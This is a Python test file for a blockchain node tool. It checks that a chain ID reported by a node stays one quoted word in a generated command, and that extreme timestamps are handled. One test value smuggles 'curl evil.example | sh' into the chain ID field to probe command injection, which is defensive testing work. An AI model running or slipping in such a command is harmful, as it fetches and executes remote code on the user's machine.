"""Commands that a person is to run, and times that a node makes up."""

from __future__ import annotations

import shlex

from gonka_trainer.app.key_grants import Asked, judge_allowance, judge_authorizations
from gonka_trainer.chain.grants import Allowance, Authorization
from gonka_trainer.config import ChainConfig, Config, ExchangeConfig, KeyConfig, WorkerConfig

CONFIG = Config(
    "data",
    ChainConfig("127.0.0.1:1", "http://127.0.0.1:1", ""),
    KeyConfig("account.key"),
    ExchangeConfig("127.0.0.1:0", "127.0.0.1:0"),
    WorkerConfig("corpus.txt"),
)


def test_a_chain_id_is_one_word_of_the_command_whatever_the_node_says() -> None:
    said = "x-1; curl evil.example | sh #"
    line = Asked(CONFIG, "gonka1key", "gonka1participant", "memo", said, 0).line("bank send a b 1ngonka")
    words = shlex.split(line)
    assert words[words.index("--chain-id") + 1] == said
    assert words[-2:] == ["--gas-adjustment", "1.4"]


def test_times_beyond_the_calendar() -> None:
    for moment in (1 << 70, -(1 << 70)):
        assert judge_allowance(Allowance("Basic", None, None, moment), "/a.b", 0, "ngonka", 1)[1]
        assert judge_authorizations([Authorization("Generic", "/a.b", moment, False)], "/a.b", 0)[1]
